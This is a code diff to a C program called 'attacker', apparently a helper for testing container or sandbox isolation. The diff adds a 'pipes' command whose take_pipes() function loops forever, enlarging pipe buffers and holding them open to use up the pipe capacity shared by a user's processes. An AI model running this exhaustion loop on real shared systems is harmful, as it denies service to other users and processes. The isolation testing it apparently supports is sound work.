@@ -11,6 +11,7 @@
  * attacker limits PID        lowers limits of a process, and asks for them
  * attacker vsock             makes a socket that leads out of a virtual machine
  * attacker userkeys NAME     looks for a key of that name in the keyring of its user
+ * attacker pipes            takes all pipes that its user may have, says so, and takes those that others give up
  * attacker hunt COUNT       tries to get at what enters the pod, until it was refused COUNT times; says if it ever got in
  */
 #define _GNU_SOURCE
@@ -360,6 +361,27 @@ static int hunt(int goal)
     return 0;
 }
 
+static int take_pipes(void)
+{
+    int ends[2], size, page = getpagesize(), told = 0;
+
+    for (;;) {
+        if (pipe(ends)) {
+            perror("pipe");
+            return 1;
+        }
+        for (size = 1 << 20; size > 2 * page && fcntl(ends[0], F_SETPIPE_SZ, size) < 0; size /= 2)
+            ;
+        if (size > 2 * page)
+            continue;
+        close(ends[0]);
+        close(ends[1]);
+        if (!told++)
+            puts("taken");
+        usleep(1000);
+    }
+}
+
 int main(int argc, char **argv)
 {
     const char *verb = argc > 1 ? argv[1] : "";
@@ -385,6 +407,8 @@ int main(int argc, char **argv)
     }
     if (!strcmp(verb, "hunt") && argc == 3)
         return hunt(atoi(argv[2]));
+    if (!strcmp(verb, "pipes") && argc == 2)
+        return take_pipes();
     if (!strcmp(verb, "procs") && argc == 2)
         return nftw("/", look_for_proc, 16, FTW_PHYS | FTW_ACTIONRETVAL);
     fprintf(stderr, "attacker: bad arguments\n");
